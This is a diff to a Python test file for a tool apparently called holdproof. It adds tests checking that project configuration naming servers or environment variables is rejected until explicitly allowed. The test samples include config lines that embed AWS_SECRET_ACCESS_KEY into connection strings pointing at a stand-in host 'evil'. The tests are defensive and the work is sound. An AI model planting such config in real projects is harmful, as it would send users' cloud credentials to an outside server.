@@ -11,7 +11,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from holdproof import config
+from holdproof import config, config_trust
 from holdproof.config import Paths, Settings
 from holdproof.errors import (
     AlreadyExistsError,
@@ -21,6 +21,7 @@ from holdproof.errors import (
     ReadOnlyError,
     UnavailableError,
 )
+from holdproof.urls import redact
 
 PG = "postgresql://ada:s3cret@db.example/kernel"
 Write = Callable[[str], Path]
@@ -180,6 +181,7 @@ def test_explicit_url_beats_variable_beats_project_beats_user(paths: Paths, user
     text = "providers: {{relational: {{type: postgres, connection: 'postgresql://{}/db'}}}}"
     user(text.format("user"))
     inner = project(text.format("project"))
+    _allow(paths, inner)
     env = {"HOLDPROOF_DATABASE_URL": "postgresql://variable/db"}
     assert load(paths, env, project=inner, url="postgresql://given/db").database_url == "postgresql://given/db"
     assert load(paths, env, project=inner).database_url == "postgresql://variable/db"
@@ -425,6 +427,7 @@ def test_a_new_project_has_a_harmless_template_and_an_empty_catalog(paths: Paths
 def test_the_template_is_valid_once_its_comments_are_removed(paths: Paths, tmp_path: Path) -> None:
     file = config.init_project(tmp_path)[0]
     file.write_text("".join(line.removeprefix("# ") for line in file.read_text().splitlines(keepends=True)[1:]))
+    _allow(paths, tmp_path)
     assert load(paths, {"HOLDPROOF_PG": PG}, project=tmp_path).database_url == PG
 
 
@@ -491,13 +494,13 @@ def test_a_full_disk_leaves_no_half_project(tmp_path: Path, monkeypatch: pytest.
     ],
 )
 def test_redaction_hides_passwords_and_only_passwords(url: str, shown: str) -> None:
-    assert config.redact(url) == shown
+    assert redact(url) == shown
 
 
 @given(st.text(alphabet=st.sampled_from("a1:/?#@&=%'\\[] \n"), max_size=12))
 def test_no_password_survives_redaction_in_a_url(noise: str) -> None:
     url = f"postgresql://ada:Secret{noise}Secret@db/kernel?application_name=x"
-    assert "Secret" not in config.redact(url)
+    assert "Secret" not in redact(url)
 
 
 def test_a_url_leaves_the_application_tables_the_login_that_a_file_gives_them(paths: Paths) -> None:
@@ -511,3 +514,40 @@ def test_a_url_leaves_the_application_tables_the_login_that_a_file_gives_them(pa
     # Another database is another store: its application tables are there too.
     elsewhere = load(paths, url="postgresql://kernel:y@db.example:5433/drill")
     assert elsewhere.providers["relational"].connection == "postgresql://kernel:y@db.example:5433/drill"
+
+
+def _allow(paths: Paths, folder: Path) -> None:
+    root = config.find_project(folder)
+    assert root is not None
+    config_trust.allow(paths.allowed_projects, root / ".holdproof" / "config.yaml")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "providers: {relational: {type: postgres, connection: 'postgresql://x:${AWS_SECRET_ACCESS_KEY}@evil/db'}}",
+        "providers: {vector: {type: pgvector, connection: postgresql://evil/db}}",
+        "providers: {blob: {type: s3, connection: 's3://evil'}}",
+        "providers: {blob: {type: filesystem, path: '${AWS_SECRET_ACCESS_KEY}'}}",
+        "profile: ${env:AWS_SECRET_ACCESS_KEY}",
+        "providers: {relational: {fallback: ['${AWS_SECRET_ACCESS_KEY}']}}",
+    ],
+)
+def test_a_project_names_no_server_and_no_variable_until_it_is_allowed(paths: Paths, project: Write, text: str) -> None:
+    env = {"AWS_SECRET_ACCESS_KEY": "sqlite"}
+    inner = project(text)
+    with pytest.raises(ConfigError, match="holdproof config allow"):
+        load(paths, env, project=inner)
+    lenient = load(paths, env, project=inner, strict=False)
+    assert (lenient.providers, lenient.profile) == (load(paths).providers, "default")
+    assert len(lenient.warnings) == 1
+    _allow(paths, inner)
+    load(paths, env, project=inner)
+    project(f"{text} # changed by the next pull")
+    with pytest.raises(ConfigError, match="holdproof config allow"):
+        load(paths, env, project=inner)
+
+
+def test_a_project_without_servers_and_variables_needs_no_permission(paths: Paths, project: Write) -> None:
+    inner = project("profile: tuned\nproviders: {vector: {dimensions: 3}}")
+    assert load(paths, project=inner).profile == "tuned"
